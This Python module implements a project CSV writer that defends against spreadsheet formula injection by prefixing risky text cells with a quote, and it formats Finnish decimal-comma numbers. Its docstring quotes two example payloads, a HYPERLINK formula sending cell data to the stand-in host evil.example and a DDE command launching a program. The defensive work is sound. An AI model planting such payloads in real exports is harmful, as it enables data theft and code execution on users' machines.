"""CSV files that a spreadsheet opens as data, never as formulas (CSV injection).

Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` as a formula,
and a leading tab or carriage return can hide such a start. Text that someone typed (a reason for
looking at support needs, a name, an order title) would then run for whoever opens the export:
`=HYPERLINK("http://evil.example/?"&A1,"open")` sends the neighbouring cells away on a click, and
`+cmd|' /C calc'!A0` starts a program where DDE is on. So every CSV export of the project writes
through `csv_writer`, which puts a single quote `'` in front of such text (OWASP's recommendation):
the spreadsheet shows the text as it was typed, and a person reading the file sees at once why.
`tests/trust/test_csv_formulas.py` fails if a module writes CSV another way.

Only text is neutralised. Numbers that the code itself writes stay numbers a spreadsheet sums: an
`int`, `float` or `Decimal` passes through unchanged (a credit's -12.50 is a negative number, not a
formula), and so does a `number_cell(...)`, the way to write a number in the Finnish form with a
decimal comma ("-12,50"). Both are built from numbers, never from typed text, so no formula can come
through them. A typed "-5" is text and comes out as '-5: it is shown as typed.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class NumberCell(str):
    """A number already formatted for the file (e.g. with a decimal comma). Made by `number_cell` only."""


def number_cell(value: Decimal | int, *, places: int = 2, decimal_comma: bool = True) -> NumberCell:
    """`value` with `places` decimals, "-12,50" with the decimal comma that Finnish spreadsheets read."""
    if not isinstance(value, int | Decimal) or isinstance(value, bool):
        raise TypeError(f"number_cell takes a Decimal or an int, not {type(value).__name__}")
    text = f"{Decimal(value):.{places}f}"
    return NumberCell(text.replace(".", ",") if decimal_comma else text)


def safe_cell(value: Any) -> Any:
    """The cell as a spreadsheet should show it: text starting with a formula character gets a `'`
    in front; numbers (`int`, `float`, `Decimal`, `NumberCell`) and empty cells pass unchanged."""
    if value is None:
        return ""
    if isinstance(value, NumberCell | Decimal | float) or (isinstance(value, int) and not isinstance(value, bool)):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


class SafeCsvWriter:
    """`csv.writer` whose every cell goes through `safe_cell`."""

    def __init__(self, out: TextIO, **fmtparams):
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: TextIO, *, delimiter: str = ";", lineterminator: str = "\r\n", **fmtparams) -> SafeCsvWriter:
    """The project's CSV writer: semicolons and CRLF (what a Finnish Excel opens without asking), and
    formula characters neutralised. The only place that calls `csv.writer`."""
    return SafeCsvWriter(out, delimiter=delimiter, lineterminator=lineterminator, **fmtparams)
